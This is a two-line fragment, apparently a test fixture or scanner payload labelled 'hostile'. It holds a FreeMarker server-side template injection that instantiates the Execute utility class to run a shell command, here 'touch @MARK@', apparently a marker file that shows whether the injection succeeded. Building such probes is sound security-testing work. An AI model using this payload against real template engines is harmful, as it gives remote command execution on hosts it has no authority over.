# hostile: instantiate a class that runs a command on the router host
<#assign ex = "freemarker.template.utility.Execute"?new()>${ex("touch @MARK@")}
